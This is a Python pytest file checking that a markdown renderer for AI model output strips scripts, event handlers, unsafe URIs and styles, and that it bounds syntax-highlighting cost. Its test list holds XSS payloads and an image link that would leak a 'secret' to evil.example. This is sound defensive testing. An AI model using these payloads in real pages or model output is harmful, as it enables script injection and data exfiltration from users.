"""Whatever a model says, the page shows no script, no image and no foreign style."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from typing import Any

import pytest

from aiops.web import highlighting
from aiops.web.markdown import COLOURS_S, Page, render

HOSTILE = [
    "<script>alert(1)</script>",
    "![x](https://evil.example/?q=secret)",
    '<img src=x onerror="alert(1)">',
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<svg/onload=alert(1)>",
    "<a href='https://x' onclick='x()'>x</a>",
    '<div style="position:fixed">x</div>',
    "<iframe src=//evil></iframe>",
    "| a |\n| --- |\n| <script>x</script> |",
    "```html\n<script>alert(1)</script>\n```",
    "[x]: javascript:alert(1)\n\n[x]",
    "<!-- --><script>x</script>",
    "&lt;script&gt;",
    "[a](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text: str) -> None:
    html = render(text)
    assert not re.search(r"<(script|img|svg|iframe|div|style|object)\b", html)
    assert not re.search(r'href="(?!https?:|mailto:)', html)
    assert not re.search(r"<[^>]*\son\w+=", html)


def test_a_link_tells_its_target_nothing() -> None:
    assert 'rel="noopener noreferrer nofollow"' in render("[x](https://example.org)")


def test_tables_and_code_are_rendered() -> None:
    assert "<td>1</td>" in render("| a |\n| --- |\n| 1 |")
    assert "<code" in render("```\nx\n```")


@pytest.mark.parametrize(
    ("language", "code", "part"),
    [
        ("python", "def f(): pass", '<span class="k">def</span>'),
        ("PY", "x = 'a<b'", "&lt;"),
        ("json", '{"a": 1}', '<span class="mi">1</span>'),
        ("sh -x", "# note", '<span class="c1"># note</span>'),
    ],
)
def test_code_in_a_known_language_gets_colours(language: str, code: str, part: str) -> None:
    html = render(f"```{language}\n{code}\n```")
    assert part in html
    assert f'<code class="language-{language.partition(" ")[0]}">' in html


def test_code_keeps_its_colours_while_the_processor_is_taken_away(monkeypatch: pytest.MonkeyPatch) -> None:
    usual = highlighting._lexer("json")

    class Waiting:
        def get_tokens(self, code: str) -> Iterator[tuple[Any, str]]:
            time.sleep(2 * COLOURS_S)
            yield from usual.get_tokens(code)

    monkeypatch.setattr(highlighting, "_lexer", lambda name: Waiting())
    assert "<span" in render('```json\n{"waited": 1}\n```')


@pytest.mark.parametrize("language", ["", "klingon", "console", "ini", "../x", '"><b'])
def test_other_code_stays_as_it_is(language: str) -> None:
    html = render(f"```{language}\nx = 1 < 2\n```")
    assert "<span" not in html
    assert "x = 1 &lt; 2" in html


def test_growing_and_costly_code_is_shown_without_colours() -> None:
    block = "```python\nx = 1\n```"
    assert "<span" not in render(block, growing=True)
    assert "<span" in render(block)
    hostile = f"```typescript\n{'a.' * 4_000}\n```\n\n```python\n{' ' * 20_000}\n```"
    assert "<span" not in render(hostile)


def test_the_colours_of_a_page_end_when_its_time_is_used_up() -> None:
    page = Page()
    assert "<span" in page.render("```py\nx = 2\n```")
    page.colours.left = 0
    assert "<span" not in page.render("```py\nx = 3\n```")
    assert "<span" in Page().render("```py\nx = 3\n```")  # the poorer one was not kept


def test_an_image_becomes_a_link_and_is_not_loaded() -> None:
    assert render("see ![the graph](https://example.org/g.png)").startswith(
        '<p>see <a href="https://example.org/g.png"'
    )


def test_a_column_of_numbers_is_aligned_without_a_style() -> None:
    html = render("| a | b |\n| --- | ---: |\n| x | 1 |")
    assert '<th class="number">b</th>' in html
    assert '<td class="number">1</td>' in html
    assert "<td>x</td>" in html
